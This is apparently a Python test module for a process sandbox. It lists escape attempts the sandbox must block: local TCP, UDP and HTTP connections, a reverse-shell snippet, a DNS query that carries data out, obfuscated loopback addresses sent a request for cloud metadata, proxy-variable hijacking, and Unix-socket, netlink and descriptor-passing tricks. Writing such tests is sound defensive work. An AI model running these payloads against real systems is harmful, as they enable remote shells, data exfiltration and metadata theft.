"""Attempts to talk to somebody."""

from sandbox.attacks.case import Case, Layer

_FILTER: tuple[Layer, ...] = ("seccomp",)
_NETWORK: tuple[Layer, ...] = ("namespaces", "seccomp")

CASES = (
    Case(
        "TCP to a server of this machine",
        ("98", "network: TCP"),
        "import socket as s; connect(s.AF_INET, s.SOCK_STREAM, ('127.0.0.1', tcp))",
        layers=("landlock", *_NETWORK),
    ),
    Case(
        "HTTP to a server of this machine",
        ("98",),
        "import urllib.request; urllib.request.urlopen(f'http://127.0.0.1:{tcp}/', timeout=1)",
        layers=("landlock", *_NETWORK),
    ),
    Case(
        "a reverse shell",
        ("98",),
        """
import os, socket
with socket.socket() as talk:
    talk.connect(("127.0.0.1", tcp))
    for number in (0, 1, 2): os.dup2(talk.fileno(), number)
    os.execv("/bin/sh", ["sh", "-i"])
""",
        layers=("landlock", *_NETWORK),
        apart=False,
    ),
    Case(
        "a server of one's own",
        ("98",),
        """
import socket
server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen()
"through"
""",
        layers=("landlock", "seccomp"),
    ),
    Case(
        "UDP to a server of this machine",
        ("98", "network: UDP"),
        "import socket as s; connect(s.AF_INET, s.SOCK_DGRAM, ('127.0.0.1', udp))",
        layers=_NETWORK,
    ),
    Case(
        "a name service's question that carries data",
        ("99",),
        """
import socket, struct
question = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + b"\\x06secret\\x07invalid\\0" + b"\\0\\1\\0\\1"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as talk:
    talk.sendto(question, ("127.0.0.1", udp))
""",
        layers=_NETWORK,
    ),
    Case(
        "the system's resolver",
        ("99",),
        "import socket; socket.getaddrinfo('canary.invalid', 80); 'through'",
        layers=_NETWORK,
        apart=False,
    ),
    *(
        Case(
            f"this machine, spelt {spelling}",
            ("100",),
            f"""
import socket
talk = socket.create_connection(({spelling!r}, tcp), 1)
talk.send(b"GET /latest/meta-data HTTP/1.0\\r\\n\\r\\n")
""",
            layers=("landlock", *_NETWORK),
        )
        for spelling in ("2130706433", "0x7f.1", "017700000001", "::ffff:127.0.0.1")
    ),
    Case(
        "a proxy for the host's clients",
        ("102",),
        """
import os, urllib.request
for name in ("HTTP_PROXY", "http_proxy", "ALL_PROXY", "HOST_API_KEY"):
    os.environ[name] = f"http://127.0.0.1:{tcp}"
urllib.request.urlopen("http://canary.invalid/", timeout=1)
""",
        layers=("landlock", *_NETWORK),
    ),
    Case(
        "a Unix socket of a daemon",
        ("103",),
        "import socket as s; connect(s.AF_UNIX, s.SOCK_STREAM, stream_path)",
        layers=_NETWORK,
    ),
    Case(
        "a Unix datagram to a daemon",
        ("103",),
        "import socket as s; connect(s.AF_UNIX, s.SOCK_DGRAM, datagram_path)",
        layers=_NETWORK,
    ),
    Case(
        "an abstract Unix socket",
        ("103", "network: abstract"),
        "import socket as s; connect(s.AF_UNIX, s.SOCK_STREAM, chr(0) + abstract)",
        layers=("landlock", *_NETWORK),
    ),
    Case(
        "a pair of datagram sockets that sends to a path",
        ("103", "network: pairs"),
        """
import socket
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
a.sendto(b"found you", datagram_path)
""",
        layers=_NETWORK,
    ),
    Case(
        "the socket to the host, sent elsewhere",
        ("103", "network: pairs"),
        """
import socket
talk = socket.socket(fileno=3)
try:
    for address in (datagram_path, stream_path):
        try: talk.sendto(b"found you", address); print("through")
        except OSError as error: print(error)
    talk.connect(stream_path)
finally:
    talk.detach()
""",
        layers=("process",),
    ),
    Case(
        "netlink",
        ("kernel: objects",),
        "import socket as s; s.socket(s.AF_NETLINK, s.SOCK_RAW, 0); 'through'",
        layers=_FILTER,
    ),
)
